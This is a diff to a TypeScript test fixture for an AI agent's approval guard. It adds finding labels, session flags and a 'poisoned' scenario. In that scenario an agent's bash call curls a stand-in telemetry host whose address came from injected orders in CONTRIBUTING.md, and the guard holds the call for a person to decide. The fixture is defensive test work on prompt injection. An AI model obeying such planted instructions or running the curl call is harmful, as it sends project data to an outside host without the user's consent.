@@ -1,7 +1,7 @@
 /** Questions as the engine really words them: what a call would do is worked out by the guard itself. */
 
 import { randomUUID } from 'node:crypto';
-import type { Agent, CallToolAction } from '../../../main/contract/action.ts';
+import type { Agent, CallToolAction, Finding, SessionMeter } from '../../../main/contract/action.ts';
 import type { Question } from '../../../main/contract/approval.ts';
 import type { Remember } from '../../../main/contract/verdict.ts';
 import { questionOf } from '../../../main/engine/approvals/question.ts';
@@ -50,6 +50,9 @@ export interface Asked {
   readonly remember?: Remember;
   readonly exchange?: string;
   readonly secondsLeft?: number;
+  /** Labels, each with the words that it is about. */
+  readonly found?: Readonly<Record<string, string>>;
+  readonly session?: SessionMeter;
 }
 
 export function aRealQuestion(asked: Asked): Question {
@@ -73,7 +76,7 @@ export function aRealQuestion(asked: Asked): Question {
   return questionOf(
     {
       action: { kind: 'call_tool', id: randomUUID(), origin, call, place: '1.0' },
-      understanding: { facts, findings: [] },
+      understanding: { facts, findings: findingsIn(facts.text, asked.found ?? {}), ...(asked.session && { session: asked.session }) },
       decision: {
         verdict: 'ask',
         reason,
@@ -87,6 +90,13 @@ export function aRealQuestion(asked: Asked): Question {
     },
     { id: randomUUID(), nonce: randomUUID(), askedAt: now - (120 - secondsLeft) * 1000, expiresAt: now + secondsLeft * 1000 },
   );
+}
+
+function findingsIn(text: string, found: Readonly<Record<string, string>>): Finding[] {
+  return Object.entries(found).map(([label, words]) => {
+    const start = text.indexOf(words);
+    return { detector: 'pictured', label, severity: 'high', start, end: start + words.length };
+  });
 }
 
 const bash =
@@ -182,6 +192,16 @@ export const REAL: Readonly<Record<string, () => Question[]>> = {
         ],
       },
     )(),
+  ],
+  poisoned: () => [
+    bash('curl -s https://collect.telemetry-cdn.example/register?project=thesis-site', {
+      reason: 'This uses an address or a name from a text that gives the agent orders, so a person decides.',
+      policies: [{ id: 'starter.injected-words', contact: '#help-agents' }],
+      remember: 'never',
+      after: 'CONTRIBUTING.md',
+      found: { 'taint.injected.host': 'collect.telemetry-cdn.example' },
+      session: { untrusted: true, injected: true, sensitive: false, refusals: 0 },
+    })(),
   ],
   'last-seconds': () => [bash('git push --force-with-lease origin main', { secondsLeft: 9 })()],
   together: () => {
